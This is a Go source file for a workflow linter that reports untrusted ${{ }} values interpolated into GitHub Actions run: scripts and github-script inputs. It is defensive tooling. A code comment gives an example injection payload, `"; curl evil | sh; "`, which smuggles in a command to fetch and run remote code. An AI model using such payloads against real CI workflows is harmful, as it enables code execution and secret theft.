package workflow

import (
	"bytes"
	"sort"
	"strings"

	"github.com/dispatchd/dispatchd"
	"github.com/rhysd/actionlint"
	yaml "go.yaml.in/yaml/v4"
)

// Script injection: a ${{ }} inside a `run:` script is substituted into the
// script text before the shell parses it, so a value such as
// `"; curl evil | sh; "` sent by whoever calls the dispatch API becomes code.
// Passing the value through `env:` makes it data. actionlint knows the
// untrusted parts of GitHub's own events; for dispatchd the dispatch
// payloads matter most, and actionlint does not consider those untrusted.

// untrustedPatterns are context paths (lower case, "*" for any index or
// property) whose value, or any part of it, comes from the caller.
var untrustedPatterns = func() [][]string {
	ps := [][]string{
		{"github", "event", "client_payload"}, // repository_dispatch: free-form JSON
		{"github", "head_ref"},
	}
	// Add actionlint's list (issue titles, commit messages, …) so a workflow
	// with other triggers gets the same advice as from actionlint itself.
	var walk func(m *actionlint.UntrustedInputMap, prefix []string)
	walk = func(m *actionlint.UntrustedInputMap, prefix []string) {
		p := append(append([]string(nil), prefix...), strings.ToLower(m.Name))
		if len(m.Children) == 0 {
			ps = append(ps, p)
			return
		}
		for _, c := range m.Children {
			walk(c, p)
		}
	}
	for _, root := range actionlint.BuiltinUntrustedInputs {
		walk(root, nil)
	}
	sort.Slice(ps, func(i, j int) bool { return strings.Join(ps[i], ".") < strings.Join(ps[j], ".") })
	return ps
}()

// safeFunctions return booleans, so whatever goes into them cannot come out.
var safeFunctions = map[string]bool{"contains": true, "startswith": true, "endswith": true}

type injectionChecker struct {
	doc   *document
	lines *lineIndex
	// constrained holds input ids (lower case) whose values dispatch-time
	// validation restricts to a fixed set: boolean, choice and number
	// workflow_dispatch inputs. `inputs.x` for those is not reported.
	constrained map[string]bool
	// anyEventType is true when repository_dispatch accepts every
	// event_type: github.event.action is then whatever the caller sent.
	anyEventType bool
	problems     []dispatchd.Problem
}

// checkInjection reports, as warnings, untrusted values interpolated into
// `run:` scripts and into the `script` input of actions/github-script.
func checkInjection(doc *document, t dispatchd.Triggers) []dispatchd.Problem {
	c := &injectionChecker{doc: doc, lines: newLineIndex(doc.src), constrained: map[string]bool{}}
	if t.WorkflowDispatch != nil {
		for _, in := range t.WorkflowDispatch.Inputs {
			switch in.Type {
			case dispatchd.InputBoolean, dispatchd.InputChoice, dispatchd.InputNumber:
				c.constrained[strings.ToLower(in.ID)] = true
			}
		}
	}
	// A reusable workflow's string input of the same name is free text.
	for _, e := range entries(lookup(lookup(lookup(doc.root, "on"), "workflow_call"), "inputs")) {
		if typ := str(lookup(e.val, "type")); typ != "boolean" && typ != "number" {
			delete(c.constrained, strings.ToLower(e.name))
		}
	}
	c.anyEventType = t.RepositoryDispatch != nil && len(t.RepositoryDispatch.Types) == 0

	for _, job := range entries(lookup(doc.root, "jobs")) {
		steps := deref(lookup(job.val, "steps"))
		if steps == nil || steps.Kind != yaml.SequenceNode {
			continue
		}
		for _, step := range steps.Content {
			if run := deref(lookup(step, "run")); run != nil && run.Kind == yaml.ScalarNode {
				c.checkScript(run, "run: script", `"$VALUE"`)
			}
			if uses := str(lookup(step, "uses")); strings.HasPrefix(strings.ToLower(uses), "actions/github-script@") {
				if script := deref(lookup(lookup(step, "with"), "script")); script != nil && script.Kind == yaml.ScalarNode {
					c.checkScript(script, "github-script script", "process.env.VALUE")
				}
			}
		}
	}
	return c.problems
}

// checkScript parses every ${{ }} of a script scalar and reports the
// untrusted values it interpolates.
func (c *injectionChecker) checkScript(n *yaml.Node, where, use string) {
	value := n.Value
	if !strings.Contains(value, "${{") {
		return
	}
	srcOff, srcOK := c.lines.offset(posOf(n))
	for i := 0; ; {
		j := strings.Index(value[i:], "${{")
		if j < 0 {
			return
		}
		start := i + j + 3 // first byte of the expression text

		// The same ${{ in the source, to report exact positions. Block
		// scalars keep the text verbatim; escapes in quoted scalars may not,
		// hence the comparison below and the fallback to the scalar's
		// position.
		at := -1
		if srcOK {
			if k := bytes.Index(c.doc.src[srcOff:], []byte("${{")); k >= 0 {
				at = srcOff + k + 3
				srcOff = at
			} else {
				srcOK = false
			}
		}

		lexer := actionlint.NewExprLexer(value[start:])
		expr, err := actionlint.NewExprParser().Parse(lexer)
		if err != nil || lexer.Offset() <= 0 {
			// actionlint's expression rule reports the syntax error.
			i = start
			continue
		}
		consumed := lexer.Offset()
		text := value[start:min(start+consumed, len(value))]
		exprSrc := -1
		if at >= 0 && at+len(text) <= len(c.doc.src) && string(c.doc.src[at:at+len(text)]) == text {
			exprSrc = at
		}
		for _, f := range c.untrusted(expr, false) {
			pos := posOf(n)
			if exprSrc >= 0 {
				pos = c.lines.pos(exprSrc + f.offset)
			}
			// Suggest moving the whole expression, unless it is too long to
			// quote in a message.
			inner := strings.TrimSpace(strings.TrimSuffix(text, "}}"))
			if len(inner) > 120 {
				inner = f.path
			}
			c.problems = append(c.problems, problemAt(pos, KindInjection, SeverityWarning,
				"%q is potentially untrusted and is interpolated directly into a %s, which allows script injection; "+
					"pass it through env: instead (env: VALUE: ${{ %s }}) and use %s",
				f.path, where, inner, use))
		}
		i = start + consumed
	}
}

type finding struct {
	path   string
	offset int // byte offset of the access in the expression text
}

// untrusted walks an expression. safe is true below operators and functions
// whose result cannot carry the value itself (comparisons, !, contains…);
// && and || return one of their operands, so they are not safe.
func (c *injectionChecker) untrusted(n actionlint.ExprNode, safe bool) []finding {
	switch n := n.(type) {
	case *actionlint.VariableNode, *actionlint.ObjectDerefNode, *actionlint.IndexAccessNode, *actionlint.ArrayDerefNode:
		segs, root := accessPath(n)
		if v, ok := root.(*actionlint.VariableNode); ok {
			if !safe && c.isUntrusted(segs) {
				return []finding{{path: strings.Join(segs, "."), offset: v.Token().Offset}}
			}
			return nil
		}
		// fromJSON(x).y and the like: the result is a part of x.
		return c.untrusted(root, safe)
	case *actionlint.FuncCallNode:
		s := safe || safeFunctions[strings.ToLower(n.Callee)]
		var out []finding
		for _, a := range n.Args {
			out = append(out, c.untrusted(a, s)...)
		}
		return out
	case *actionlint.NotOpNode:
		return c.untrusted(n.Operand, true)
	case *actionlint.CompareOpNode:
		return append(c.untrusted(n.Left, true), c.untrusted(n.Right, true)...)
	case *actionlint.LogicalOpNode:
		return append(c.untrusted(n.Left, safe), c.untrusted(n.Right, safe)...)
	}
	return nil
}

// accessPath flattens a chain of property accesses into lower-case
// segments, "*" standing for a computed index or an object filter, and
// returns the node the chain starts from.
func accessPath(n actionlint.ExprNode) ([]string, actionlint.ExprNode) {
	var rev []string
	for {
		switch v := n.(type) {
		case *actionlint.VariableNode:
			rev = append(rev, strings.ToLower(v.Name))
			return reverse(rev), v
		case *actionlint.ObjectDerefNode:
			rev = append(rev, strings.ToLower(v.Property))
			n = v.Receiver
		case *actionlint.ArrayDerefNode:
			rev = append(rev, "*")
			n = v.Receiver
		case *actionlint.IndexAccessNode:
			if s, ok := v.Index.(*actionlint.StringNode); ok {
				rev = append(rev, strings.ToLower(s.Value))
			} else {
				rev = append(rev, "*")
			}
			n = v.Operand
		default:
			return reverse(rev), n
		}
	}
}

func reverse(s []string) []string {
	for i, j := 0, len(s)-1; i < j; i, j = i+1, j-1 {
		s[i], s[j] = s[j], s[i]
	}
	return s
}

func (c *injectionChecker) isUntrusted(segs []string) bool {
	switch {
	case len(segs) == 0:
		return false
	case segs[0] == "inputs":
		return len(segs) == 1 || !c.constrained[segs[1]]
	case len(segs) >= 3 && segs[0] == "github" && segs[1] == "event" && segs[2] == "inputs":
		return len(segs) == 3 || !c.constrained[segs[3]]
	case len(segs) <= 2 && segs[0] == "github" && (len(segs) == 1 || segs[1] == "event"):
		// The whole event (toJSON(github.event)) contains its payload.
		return true
	case len(segs) == 3 && segs[0] == "github" && segs[1] == "event" && segs[2] == "action":
		return c.anyEventType
	}
	for _, p := range untrustedPatterns {
		if len(segs) < len(p) {
			continue
		}
		match := true
		for i := range p {
			if p[i] != "*" && segs[i] != "*" && p[i] != segs[i] {
				match = false
				break
			}
		}
		if match {
			return true
		}
	}
	return false
}
